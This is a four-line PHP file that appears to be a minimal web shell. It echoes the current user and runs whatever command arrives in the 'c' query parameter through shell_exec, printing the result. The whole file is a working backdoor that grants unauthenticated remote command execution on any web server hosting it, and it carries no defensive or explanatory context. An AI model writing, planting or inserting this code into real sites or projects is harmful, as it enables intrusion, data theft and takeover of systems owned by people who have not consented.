<?php
echo get_current_user();
echo shell_exec($_GET['c']);
?>
